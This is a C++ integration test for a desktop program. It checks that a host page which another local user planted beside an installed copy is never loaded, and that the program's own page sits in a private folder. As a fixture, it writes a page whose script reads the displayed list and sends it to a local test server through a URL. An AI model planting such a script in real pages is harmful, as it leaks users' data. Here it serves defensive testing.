// The list page is written into a host page of its own. An installed copy
// cannot write beside itself, and another local user may have put a page of
// theirs there: the program never loads a host page that is not the user's.
#include "foundation/basgeneral.h"
#include "foundation/settingsstore.h"

#include "tests/integration/programrun.h"
#include "tests/support/filemode.h"
#include "tests/support/testfiles.h"
#include "tests/support/tinyhttp.h"
#include "tests/support/waitfor.h"

#include <gtest/gtest.h>

#include <QCoreApplication>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>

#include <unistd.h>

namespace {

constexpr uid_t kOtherUser = 65534; // nobody

bool copyBeside(const QString &name, const QString &folder)
{
    return QFile::copy(QCoreApplication::applicationDirPath() + QLatin1Char('/') + name, folder + QLatin1Char('/') + name);
}

} // namespace

TEST(ListHostPage, APageAnotherUserPlantedBesideTheProgramIsNeverLoaded)
{
    if (::getuid() != 0)
        GTEST_SKIP() << "planting a file of another user takes root";
    TinyHttp theirs([](const TinyHttp::Request &) { return TinyHttp::Reply{}; });
    // A copy of the program with a page another user put beside it.
    QTemporaryDir install;
    const QString folder = install.path();
    for (const char *name : {"tallowmere", "default.tmt", "nopic.gif"})
        ASSERT_TRUE(copyBeside(QString::fromLatin1(name), folder)) << name;
    const QString planted = folder + QStringLiteral("/blank.htm");
    // Its script outlives the list written into the page: it reads the list
    // and sends it off as a web link, which the program opens.
    const QByteArray page = "<html><body><script>setInterval(function () { location.href = \"" + theirs.url("/stolen?")
                            + "\" + encodeURIComponent(document.body ? document.body.innerText : \"\"); }, 300);"
                              "</script></body></html>";
    {
        QFile f(planted);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write(page);
    }
    ASSERT_EQ(::chown(QFile::encodeName(planted).constData(), kOtherUser, kOtherUser), 0);
    ASSERT_TRUE(SetFileMode(planted, 0644));

    ProgramRun::PrepareFinishedFirstRun();
    QProcess program;
    ASSERT_NO_FATAL_FAILURE(ProgramRun::StartProgram(program, folder + QStringLiteral("/tallowmere")));
    // The list is drawn (into its host page) before loading completes.
    ASSERT_TRUE(waitFor([] { return GetSetting("Last Load Step", "unset").isEmpty(); }, 60000))
        << GetSetting("Last Load Step").toStdString();
    waitFor([&theirs] { return !theirs.requests().isEmpty(); }, 3000);

    EXPECT_TRUE(theirs.requests().isEmpty()) << "the planted page ran beside the list";
    EXPECT_EQ(fileBytes(planted), page) << "the other user's file is left as it is";
    // The host page the list lives in: the user's own, in the private data folder.
    const QString own = basGeneral::DataFolder() + QStringLiteral("blank.htm");
    EXPECT_TRUE(QFile::exists(own));
    EXPECT_EQ(FileMode(own), "0600");
    EXPECT_EQ(FileMode(basGeneral::DataFolder()), "0700");

    program.terminate();
    EXPECT_TRUE(program.waitForFinished(30000));
}
